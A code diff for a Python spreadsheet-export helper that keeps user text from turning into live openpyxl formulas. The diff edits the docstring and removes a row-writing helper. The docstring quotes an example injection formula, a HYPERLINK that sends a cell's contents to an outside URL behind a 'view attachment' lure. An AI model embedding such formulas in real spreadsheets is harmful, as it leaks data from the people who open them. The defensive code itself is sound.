@@ -2,14 +2,14 @@
 
 openpyxl turns any string that starts with ``=`` into a formula, so a narrative such as
 ``=HYPERLINK("http://…?x="&A1,"点击查看附件")`` would become a live formula that runs when the
-secretariat opens the file (spreadsheet formula injection). Every row we write goes through
-:func:`append_text` or :func:`put_text`, which keep such values as the text they are.
+secretariat opens the file (spreadsheet formula injection). Every row written through openpyxl
+goes through :func:`append_text` or :func:`put_text`, which keep such values as the text they
+are; the exports' big sheets are written as text cells by :mod:`bot.render.sheetxml`.
 """
 
 from __future__ import annotations
 
 from collections.abc import Sequence
-from copy import copy
 from typing import Any
 
 TEXT = "s"  # openpyxl's data type for a string cell
@@ -30,24 +30,6 @@ def put_text(sheet: Any, row: int, column: int, value: object) -> Any:
     if cell.data_type == FORMULA:
         cell.data_type = TEXT
     return cell
-
-
-def write_row(sheet: Any, row: int, values: Sequence[object], style: str | None = None) -> None:
-    """Write ``values`` into ``row`` from column A, as text where they would read as formulas,
-    each cell with the named ``style`` (see :mod:`bot.render.sheetstyles`). Unlike
-    :func:`append_text` it never asks the sheet for its last row (a scan of every cell)."""
-    shared = None
-    for column, value in enumerate(values, start=1):
-        cell = sheet.cell(row=row, column=column, value=value)
-        if cell.data_type == FORMULA:
-            cell.data_type = TEXT
-        if style is None:
-            continue
-        if shared is None:
-            cell.style = style  # looks the named style up: once a row
-            shared = cell._style
-        else:
-            cell._style = copy(shared)
 
 
 # What Excel reads as the start of a formula when it opens a CSV.
